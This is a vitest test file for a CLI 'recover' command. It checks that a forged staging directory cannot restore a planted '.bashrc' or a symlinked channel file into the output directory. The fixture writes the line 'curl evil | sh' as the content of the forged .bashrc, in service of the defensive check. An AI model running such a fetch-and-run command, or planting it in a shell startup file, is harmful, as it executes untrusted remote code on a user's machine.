/**
 * Issue 34 (minor): a forged staging dir of the same user is not trusted beyond what a real one
 * can hold. A dead run's staging dir (journal `publishing`) holding `.replaced-.bashrc` and a
 * `.replaced-<channel>` that is a symlink to a file outside is rolled back by the next run
 * without putting either into DIR: only channel-file names, only regular files, go back.
 */
import { existsSync, lstatSync, statSync } from 'node:fs';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { bootId, boot8, deadPid } from '../helpers/processes.ts';
import { makeSmallCheckpoint } from '../helpers/checkpoints.ts';
import { makeTempRoot, runCli } from './harness.ts';

describe('a forged staging dir restores nothing but channel files', () => {
  it('.replaced-.bashrc and a .replaced-<channel> symlink are not restored into DIR; a real .replaced-<channel> is', async () => {
    const base = await makeTempRoot();
    const out = join(base, 'out');
    const root = join(base, 'spill');
    await mkdir(root);
    const made = await makeSmallCheckpoint(base, { channels: 2 });
    const pid = deadPid();
    const staging = join(out, `.spillway-staging-${boot8}-${pid}-1-0123abcd`);
    await mkdir(staging, { recursive: true, mode: 0o700 });
    await writeFile(
      join(staging, 'owner.json'),
      JSON.stringify({
        pid,
        bootId,
        startTicks: 1,
        version: '0.1.0',
        createdAt: '',
        pidNamespace: statSync('/proc/self/ns/pid').ino,
      }),
    );
    await writeFile(join(staging, 'publishing'), '{}\n');
    await writeFile(join(staging, '.replaced-.bashrc'), 'curl evil | sh\n');
    const outside = join(base, 'outside.txt');
    await writeFile(outside, 'not a channel file');
    await symlink(outside, join(staging, '.replaced-gate-7-channel-7.bin'));
    await writeFile(join(staging, '.replaced-gate-8-channel-8.bin'), 'the user original');
    const run = await runCli([
      'recover',
      made.path,
      '--out',
      out,
      '--spill-root',
      root,
      '--overwrite',
    ]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(/restored .* as it was before an interrupted publish/);
    expect(existsSync(join(out, '.bashrc'))).toBe(false);
    expect(lstatSync(join(out, 'gate-7-channel-7.bin'), { throwIfNoEntry: false })).toBeUndefined();
    expect(await readFile(join(out, 'gate-8-channel-8.bin'), 'utf8')).toBe('the user original');
    expect(existsSync(staging)).toBe(false);
  }, 60_000);
});
